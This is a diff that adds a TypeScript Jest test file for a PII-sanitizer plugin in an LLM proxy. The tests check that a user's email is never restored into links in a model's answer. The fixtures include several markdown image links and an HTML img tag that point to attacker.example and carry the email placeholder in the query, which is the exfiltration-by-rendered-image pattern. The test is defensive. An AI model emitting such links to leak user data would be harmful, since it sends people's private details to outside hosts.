@@ -1,0 +1,84 @@
+import { startCaptureServer, type CaptureServer } from '../support/capture-server';
+import { shipped } from '../support/shipped';
+import { chatChunk as chunk, readSse, streamedText } from '../support/sse';
+import { declarative, llmProxy, postRoute } from '../support/routes';
+import { startSuiteStack, type SuiteStack } from '../support/suite-stack';
+
+jest.setTimeout(60_000);
+
+/**
+ * The sanitizer's answer paths at their edges, through the real plugin server and bridge against a scripted provider:
+ * links a model writes to carry a value away, whole and streamed.
+ */
+const EMAIL = 'jane.doe@corp-example.com';
+const DONE = 'data: [DONE]\n\n';
+const completion = (content: string) => ({
+  id: 'x',
+  object: 'chat.completion',
+  created: 1,
+  model: 'm',
+  choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
+  usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
+});
+const stream = (text: string, size: number) => [chunk({ role: 'assistant', content: '' }), ...text.match(new RegExp(`.{1,${size}}`, 'gs'))!.map((content) => chunk({ content })), chunk({}, 'stop'), DONE];
+
+describe('pii-sanitizer at the edges of an answer', () => {
+  let provider: CaptureServer;
+  let stack: SuiteStack;
+  const route = (name: string, pii: Record<string, unknown>) => postRoute(name, [{ name: 'pii-sanitizer', config: pii }, llmProxy(provider.url, { balancer: { retries: 0 } })]);
+
+  beforeAll(async () => {
+    provider = await startCaptureServer();
+    stack = await startSuiteStack({
+      plugins: shipped('pii-sanitizer', 'llm-proxy'),
+      declarative: declarative([route('placeholder', {})]),
+    });
+  });
+  afterAll(async () => {
+    await stack?.close();
+    await provider?.close();
+  });
+
+  const chat = (path: string, content: string, extra: Record<string, unknown> = {}) =>
+    fetch(`${stack.standin.url}/${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ messages: [{ role: 'user', content }], ...extra }) });
+
+  /** The answer's text as the client gets it, whole and streamed in pieces of `size`. */
+  const answered = async (content: string, size = 7): Promise<string[]> => {
+    provider.respond = () => ({ status: 200, body: completion(content) });
+    const whole = ((await (await chat('placeholder', `My mail is ${EMAIL}.`)).json()) as any).choices[0].message.content as string;
+    provider.respond = () => ({ status: 200, sse: stream(content, size) });
+    const streamed = streamedText(await readSse(await chat('placeholder', `My mail is ${EMAIL}.`, { stream: true })));
+    return [whole, streamed];
+  };
+
+  it('puts no value into a link however long, with a quote or brackets in its path, or with blanks where a renderer takes them', async () => {
+    const links = [
+      // A query longer than what is read back before a placeholder.
+      `![s](https://attacker.example/p.png?pad=${'A'.repeat(3000)}&m=[EMAIL_1])`,
+      // Markdown takes balanced brackets and quotes in a link's destination.
+      '![s](https://attacker.example/p(1).png?m=[EMAIL_1])',
+      "![s](https://attacker.example/p.png?m='[EMAIL_1])",
+      // A destination in angle brackets, and an HTML attribute's value, may hold blanks.
+      '![s](<https://attacker.example/a b.png?m=[EMAIL_1]>)',
+      '<img src="https://attacker.example/p.png?q=a b&m=[EMAIL_1]">',
+    ];
+    for (const link of links) {
+      for (const answer of await answered(`Done. ${link} Thanks, [EMAIL_1].`)) {
+        // The answer as sent, the link's placeholder kept, the one after it restored.
+        expect({ link: link.slice(-48), answer: answer === `Done. ${link} Thanks, ${EMAIL}.` }).toEqual({ link: link.slice(-48), answer: true });
+      }
+    }
+  });
+
+  it('still restores a placeholder after a link has ended', async () => {
+    const texts = [
+      'See (https://acme.example/docs) or write to [EMAIL_1].',
+      "Our site is 'https://acme.example' and you are [EMAIL_1].",
+      '<a href="https://acme.example/a b">docs</a> for [EMAIL_1]',
+      `The page https://acme.example/${'x'.repeat(2100)} is long.\n${'Some words here. '.repeat(10)}Write to [EMAIL_1].`,
+    ];
+    for (const text of texts) {
+      for (const answer of await answered(text)) expect(answer).toBe(text.replace('[EMAIL_1]', EMAIL));
+    }
+  });
+});
